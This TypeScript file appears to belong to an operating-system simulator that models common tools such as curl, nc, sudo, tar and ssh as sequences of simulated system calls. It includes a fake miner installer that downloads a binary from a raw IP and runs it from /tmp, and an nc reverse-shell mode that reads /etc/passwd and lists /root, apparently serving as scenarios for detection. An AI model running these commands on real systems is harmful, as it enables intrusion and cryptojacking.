// Network and everyday tools: curl and wget (name resolution through getaddrinfo, TCP
// connect, TLS through libssl, the download written to stdout or a file), nc, ssh, git
// status, vim and less (files plus terminal input), top (reading /proc in a loop), sudo
// (a setuid-root binary that reads sudoers and shadow, then runs the command), tar and
// gzip (backups: read a tree, compress, write an archive).
import * as E from '../errno';
import type { Task } from '../kernel/task';
import { LIBC, LIBCURL, LIBSSL, LIBZ } from '../user/binary-table';
import { NR, U, type Gen } from '../user/libc';
import { ustack } from '../user/ustack';
import { ip4 } from '../net/sock';
import { exeStack } from './startup';
import { register, runMain } from './registry';

const KNOWN: Record<string, string> = {
  'example.com': '93.184.216.34',
  'github.com': '140.82.112.3',
  'pypi.org': '151.101.0.223',
  'api.internal': '10.0.0.10',
  'db-replica.internal': '10.0.0.12',
  'search.internal': '10.0.0.11',
  'ghost.internal': '10.0.0.99',
  'registry-1.docker.io': '54.236.113.205',
  's3.amazonaws.com': '52.216.8.1',
  'cdn.jsdelivr.net': '151.101.1.229',
  localhost: '127.0.0.1',
};

/** The few remote resources whose content matters: a script that gets piped into a shell. */
export const REMOTE_BODIES: Readonly<Record<string, string>> = {
  'http://45.33.12.7/i.sh': '#!/bin/sh\n# xmr installer\ncurl -s http://45.33.12.7/x86_64 -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x\n',
};

/** Parses http(s)://host[:port]/path. */
export function parseUrl(url: string): { tls: boolean; host: string; port: number; path: string } {
  const m = /^(https?):\/\/([^/:]+)(?::(\d+))?(\/.*)?$/.exec(url);
  if (!m) return { tls: false, host: url, port: 80, path: '/' };
  const tls = m[1] === 'https';
  return { tls, host: m[2], port: Number(m[3] ?? (tls ? 443 : 80)), path: m[4] ?? '/' };
}

function hostIp(host: string): number | null {
  if (/^\d+\.\d+\.\d+\.\d+$/.test(host)) return ip4(host);
  const k = KNOWN[host];
  return k ? ip4(k) : null;
}

/** One HTTP(S) GET; returns the bytes received or -errno. */
export function* httpGet(u: U, url: string, outFd: number): Gen<number> {
  const { tls, host, port, path } = parseUrl(url);
  const ip = hostIp(host);
  const fromHosts = host === 'localhost' || host.endsWith('.internal');
  yield* u.resolve(host, ip ?? 0, fromHosts);
  if (ip === null) return -E.ENOENT;
  const fd = yield u.socket();
  u.at(ustack(`${LIBCURL}:Curl_connect`, `${LIBCURL}:curl_multi_perform`, `${LIBCURL}:curl_easy_perform`, '/usr/bin/curl:serial_transfers', '/usr/bin/curl:operate', '/usr/bin/curl:main', `${LIBC}:__libc_start_call_main`));
  const c = yield u.connect(fd, ip, port);
  if (c < 0) {
    yield u.close(fd);
    return c;
  }
  if (tls) {
    const cert = yield u.open('/etc/ssl/certs/ca-certificates.crt', E.O_RDONLY | E.O_CLOEXEC);
    if (cert >= 0) {
      yield u.read(cert, u.buf('io', 65536), 65536);
      yield u.close(cert);
    }
    yield* u.tlsHandshake(fd, true);
    yield* u.sslWrite(fd, 90 + path.length, `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: curl/8.5.0\r\n\r\n`);
  } else {
    yield u.send(fd, `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n\r\n`);
  }
  let total = 0;
  const idleLimit = 3;
  let idle = 0;
  yield u.sys(NR.setsockopt, fd, 1, 20, u.sockTimeout(400e6));
  for (;;) {
    u.at(ustack(`${LIBCURL}:Curl_sendrecv`, `${LIBCURL}:curl_multi_perform`, `${LIBCURL}:curl_easy_perform`, '/usr/bin/curl:serial_transfers', '/usr/bin/curl:operate', '/usr/bin/curl:main', `${LIBC}:__libc_start_call_main`));
    const n = tls ? yield* u.sslRead(fd) : yield u.recv(fd, 16384);
    if (n === -E.EAGAIN) {
      if (++idle >= idleLimit || total > 0) break;
      continue;
    }
    if (n <= 0) break;
    total += n;
    u.at(exeStack('/usr/bin/curl', 'tool_write_cb'));
    const body = REMOTE_BODIES[url];
    if (body === undefined) yield u.libc('fwrite', NR.write, outFd, u.buf('out', 16384), Math.min(n, 16384));
    else if (total === n) {
      // A resource whose text matters is written whole, once (the rest is headers).
      const [a, len] = u.text('out', body);
      yield u.libc('fwrite', NR.write, outFd, a, len);
    }
  }
  yield u.close(fd);
  return total;
}

function* curl(u: U, argv: readonly string[]): Gen<number> {
  const url = argv.slice(1).find((a) => /^(https?:\/\/|[\w.-]+\.\w+)/.test(a) && !a.startsWith('-')) ?? 'http://localhost/';
  const oi = argv.indexOf('-o');
  const out = oi >= 0 ? yield u.open(argv[oi + 1], E.O_WRONLY | E.O_CREAT | E.O_TRUNC, 0o644) : 1;
  u.at(exeStack('/usr/bin/curl', 'operate'));
  yield* u.slurp('/etc/ssl/openssl.cnf');
  const r = yield* httpGet(u, url.includes('://') ? url : `http://${url}`, out < 0 ? 1 : out);
  if (out > 1) yield u.close(out);
  if (r < 0) {
    const msg = r === -E.ENOENT ? 'Could not resolve host' : r === -E.ECONNREFUSED ? 'Failed to connect: Connection refused' : r === -E.ETIMEDOUT ? 'Connection timed out' : 'Couldn\'t connect to server';
    if (!argv.includes('-s')) yield u.print(2, `curl: (${r === -E.ENOENT ? 6 : 7}) ${msg}\n`);
    return r === -E.ENOENT ? 6 : 7;
  }
  return 0;
}

function* wget(u: U, argv: readonly string[]): Gen<number> {
  const url = argv.slice(1).find((a) => !a.startsWith('-')) ?? 'http://example.com/';
  const name = url.split('/').pop() || 'index.html';
  const out = yield u.open(name, E.O_WRONLY | E.O_CREAT | E.O_TRUNC, 0o644);
  u.at(exeStack('/usr/bin/wget', 'http_loop', 'retrieve_url'));
  const r = yield* httpGet(u, url, out < 0 ? 1 : out);
  if (out >= 0) yield u.close(out);
  return r < 0 ? 4 : 0;
}

function* nc(u: U, argv: readonly string[]): Gen<number> {
  const args = argv.slice(1).filter((a) => !a.startsWith('-') && a !== '/bin/sh' && a !== '/bin/bash');
  const ip = hostIp(args[0] ?? '127.0.0.1') ?? 0x7f000001;
  const port = Number(args[1] ?? 80);
  const fd = yield u.socket();
  u.at(exeStack('/usr/bin/nc', 'remote_connect'));
  const r = yield u.connect(fd, ip, port);
  if (r < 0) return 1;
  if (argv.includes('-e')) {
    // A reverse shell: the remote end talks to /bin/sh over the socket.
    const shell = argv[argv.indexOf('-e') + 1] ?? '/bin/sh';
    yield u.dup2(fd, 0);
    yield u.dup2(fd, 1);
    yield u.dup2(fd, 2);
    yield u.exec(shell, [shell, '-c', 'id; uname -a; cat /etc/passwd; ls -la /root']);
    return 1;
  }
  u.at(exeStack('/usr/bin/nc', 'readwrite'));
  for (let i = 0; i < 20; i++) {
    const n = yield u.recv(fd);
    if (n <= 0) break;
  }
  yield u.close(fd);
  return 0;
}

function* git(u: U): Gen<number> {
  u.at(exeStack('/usr/bin/git', 'cmd_status', 'run_builtin', 'cmd_main'));
  yield* u.slurp('/home/alice/.gitconfig');
  for (const f of ['HEAD', 'config', 'index']) yield u.open(`.git/${f}`, E.O_RDONLY | E.O_CLOEXEC);
  const node = u.k.s.vfs.lookupAsRoot('/home/alice/project');
  const files: string[] = [];
  const walk = (n: typeof node, p: string) => {
    for (const c of n?.children?.values() ?? []) {
      if (c.isDir()) walk(c, `${p}${c.name}/`);
      else files.push(`${p}${c.name}`);
    }
  };
  walk(node, '');
  u.at(exeStack('/usr/bin/git', 'lstat_cache_matchlen', 'refresh_index', 'cmd_status', 'run_builtin', 'cmd_main'));
  for (const f of files) yield u.lstat(f);
  yield u.cpu(3_000_000 + files.length * 40_000, exeStack('/usr/bin/git', 'ie_match_stat', 'refresh_index', 'cmd_status', 'run_builtin', 'cmd_main'));
  yield u.print(1, 'On branch main\nnothing to commit, working tree clean\n');
  return 0;
}

/** An editor: read the file, wait for the person to type, write it back and fsync. */
function* vim(u: U, argv: readonly string[]): Gen<number> {
  const file = argv.slice(1).find((a) => !a.startsWith('-')) ?? 'notes.txt';
  yield* u.slurp('/etc/vim/vimrc');
  yield* u.slurp(file);
  yield u.open(`.${file}.swp`, E.O_RDWR | E.O_CREAT | E.O_EXCL, 0o600);
  yield u.print(1, '\x1b[?1049h');
  // Wait for keystrokes until a line that saves or quits.
  for (let i = 0; i < 200; i++) {
    const n = yield u.read(0, u.buf('keys', 256), 256);
    if (n <= 0) break;
    const lin = u.t.proc.user.translate(u.buf('keys', 256), n);
    const typed = lin >= 0 ? u.k.mem.readCString(lin, n) : ':q';
    if (typed.includes(':w') || typed.includes(':x')) {
      const fd = yield u.open(file, E.O_WRONLY | E.O_CREAT | E.O_TRUNC, 0o644);
      yield u.print(fd, 'edited\n');
      yield u.fsync(fd);
      yield u.close(fd);
    }
    if (typed.includes(':q') || typed.includes(':x') || typed.includes(':wq')) break;
  }
  yield u.unlink(`.${file}.swp`);
  return 0;
}

function* less(u: U, argv: readonly string[]): Gen<number> {
  yield* u.slurp(argv[1] ?? '/etc/passwd', 65536);
  const n = yield u.read(0, u.buf('keys', 64), 64);
  void n;
  return 0;
}

function* top(u: U, argv: readonly string[]): Gen<number> {
  const rounds = argv.includes('-b') ? 1 : 8;
  for (let r = 0; r < rounds; r++) {
    for (const f of ['/proc/stat', '/proc/meminfo', '/proc/loadavg', '/proc/uptime']) yield* u.slurp(f);
    const pids = [...u.k.tasks.keys()].filter((p) => p > 0).slice(0, 40);
    for (const pid of pids) {
      const fd = yield u.open(`/proc/${pid}/stat`, E.O_RDONLY | E.O_CLOEXEC);
      if (fd < 0) continue;
      yield u.read(fd, u.buf('io', 4096), 4096);
      yield u.close(fd);
    }
    yield u.cpu(2_000_000);
    yield u.print(1, 'top - load average: 0.42, 0.38, 0.31\n');
    if (rounds > 1) {
      const fds = u.buf('pollfd', 8);
      const lin = u.t.proc.user.translate(fds, 8);
      if (lin >= 0) {
        u.k.mem.writeU32(lin, 0);
        u.k.mem.writeU16(lin + 4, 1);
      }
      const p = yield u.sys(NR.poll, fds, 1, 3000);
      if (p > 0) {
        yield u.read(0, u.buf('keys', 64), 64);
        break;
      }
    }
  }
  return 0;
}

function* sudo(u: U, argv: readonly string[]): Gen<number> {
  u.at(exeStack('/usr/bin/sudo', 'policy_check'));
  yield* u.slurp('/etc/sudoers');
  yield* u.slurp('/etc/pam.d/sudo');
  yield* u.slurp('/etc/pam.d/common-auth');
  u.at(exeStack('/usr/bin/sudo', 'sudo_auth_begin'));
  yield* u.slurp('/etc/shadow');
  yield u.cpu(8_000_000);
  const logFd = yield u.socket(1, 2);
  yield u.connectUnix(logFd, '/dev/log');
  yield u.send(logFd, `<86>sudo: alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=${argv.slice(1).join(' ')}`);
  yield u.close(logFd);
  yield u.sys(NR.setresuid, 0, 0, 0);
  u.t.proc.reaps = true;
  const cmd = argv.slice(1);
  if (!cmd.length) return 1;
  const path = cmd[0].includes('/') ? cmd[0] : `/usr/bin/${cmd[0]}`;
  u.at(exeStack('/usr/bin/sudo', 'exec_cmnd', 'sudo_execute'));
  yield u.fork(function* (t: Task) {
    const c = new U(t, exeStack('/usr/bin/sudo', 'exec_cmnd', 'sudo_execute'));
    yield c.exec(path, cmd);
    yield c.print(2, `sudo: ${cmd[0]}: command not found\n`);
    return yield c.exit(1);
  });
  const r = yield* u.wait(-1);
  return (r.status >> 8) & 0xff;
}

function* tar(u: U, argv: readonly string[]): Gen<number> {
  const fIdx = argv.findIndex((a) => a.includes('f'));
  const out = argv[fIdx + 1] ?? '/tmp/out.tar';
  const src = argv[fIdx + 2] ?? '/etc';
  u.at(exeStack('/usr/bin/tar', 'create_archive'));
  const fd = yield u.open(out, E.O_WRONLY | E.O_CREAT | E.O_TRUNC, 0o644);
  if (fd < 0) {
    yield u.print(2, `tar: ${out}: Cannot open: Permission denied\n`);
    return 2;
  }
  const node = u.k.s.vfs.lookupAsRoot(src);
  const files: string[] = [];
  const walk = (n: typeof node, p: string, depth: number) => {
    for (const c of n?.children?.values() ?? []) {
      if (files.length > 60 || depth > 4) return;
      if (c.isDir()) walk(c, `${p}/${c.name}`, depth + 1);
      else files.push(`${p}/${c.name}`);
    }
  };
  walk(node, src, 0);
  for (const f of files) {
    u.at(exeStack('/usr/bin/tar', 'dump_regular_file', 'dump_file', 'create_archive'));
    const n = yield* u.slurp(f, 65536);
    if (n > 0) {
      if (argv.some((a) => a.includes('z'))) {
        u.enter(`${LIBZ}:deflate`, u.buf('zs', 112), 0);
        yield u.cpu(n * 12);
        u.leave(`${LIBZ}:deflate`, 0);
      }
      yield u.write(fd, u.buf('tarbuf', 10240), Math.max(512, Math.floor(n / 3)));
    }
  }
  yield u.close(fd);
  return 0;
}

function* gzip(u: U, argv: readonly string[]): Gen<number> {
  const file = argv.slice(1).find((a) => !a.startsWith('-'));
  if (!file) return 1;
  u.at(exeStack('/usr/bin/gzip', 'zip'));
  const inp = yield u.open(file);
  if (inp < 0) return 1;
  const out = yield u.open(`${file}.gz`, E.O_WRONLY | E.O_CREAT | E.O_EXCL, 0o644);
  for (;;) {
    const n = yield u.read(inp, u.buf('gz', 65536), 65536);
    if (n <= 0) break;
    yield u.cpu(n * 18, exeStack('/usr/bin/gzip', 'longest_match', 'deflate', 'zip'));
    if (out >= 0) yield u.write(out, u.buf('gzout', 65536), Math.floor(n / 3));
  }
  yield u.close(inp);
  if (out >= 0) yield u.close(out);
  yield u.unlink(file);
  return 0;
}

function* ssh(u: U, argv: readonly string[]): Gen<number> {
  const host = argv.slice(1).find((a) => !a.startsWith('-')) ?? 'github.com';
  const ip = hostIp(host.split('@').pop()!) ?? ip4('140.82.112.3');
  yield* u.slurp('/home/alice/.ssh/id_ed25519');
  const fd = yield u.socket();
  const r = yield u.connect(fd, ip, 22);
  if (r < 0) return 255;
  yield u.recv(fd);
  yield u.cpu(3_000_000);
  yield u.send(fd, 2048);
  yield u.recv(fd);
  yield u.close(fd);
  return 0;
}

register(['/usr/bin/curl'], curl);
register(['/usr/bin/wget'], wget);
register(['/usr/bin/nc'], nc);
register(['/usr/bin/git'], git);
register(['/usr/bin/vim.basic', '/usr/bin/vim'], vim);
register(['/usr/bin/less'], less);
register(['/usr/bin/top'], top);
register(['/usr/bin/sudo'], sudo);
register(['/usr/bin/tar'], tar);
register(['/usr/bin/gzip'], gzip);
register(['/usr/bin/ssh'], ssh);
export { LIBSSL, runMain };
